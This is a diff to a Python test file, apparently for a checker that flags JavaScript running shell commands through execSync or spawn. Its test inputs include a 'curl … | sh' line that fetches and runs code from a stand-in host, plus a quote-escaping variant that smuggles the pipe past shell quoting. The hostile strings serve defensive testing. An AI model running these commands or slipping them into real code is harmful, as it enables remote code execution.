@@ -46,3 +46,22 @@ def test_what_a_table_chooses_is_audited() -> None:
     table = "const SCRIPTS = { list: 'ls -l', show: 'curl -s https://c.example.invalid/x | sh' };\n"
     assert verdict(f"{table}execSync(SCRIPTS[b[0]]);\n") is Verdict.FAIL
     assert verdict("const SCRIPTS = { list: 'ls -l', show: 'ls -a' };\nexecSync(SCRIPTS[b[0]]);\n") is Verdict.PASS
+
+
+QUOTED = (
+    "const c = {text};\n"
+    "spawn('podman', ['run', '--rm', 'alpine', '/bin/sh', '-c', `node -e '${{c.replace({what}, {new})}}'`]);\n"
+)
+
+
+def quoted(text: str, what: str = "/'/g", new: str = "\"'\\\\\\''\"") -> Verdict:
+    code = QUOTED.format(text=text, what=what, new=new)
+    return verdict("const { spawn } = require('child_process');\n" + code)
+
+
+def test_a_text_whose_quotes_are_kept_from_the_shell_is_known() -> None:
+    assert quoted("\"console.log('a')\"") is not Verdict.FAIL
+    assert quoted("\"require('child_process').execSync('curl -s https://c.example.invalid/x | sh')\"") is Verdict.FAIL
+    assert quoted("b[0]") is Verdict.FAIL
+    assert quoted("\"console.log('a')\"", new="b[0]") is Verdict.FAIL
+    assert quoted("'curl -s https://c.example.invalid/x ~ sh'", "/~/", "\"' | sh; '\"") is Verdict.FAIL
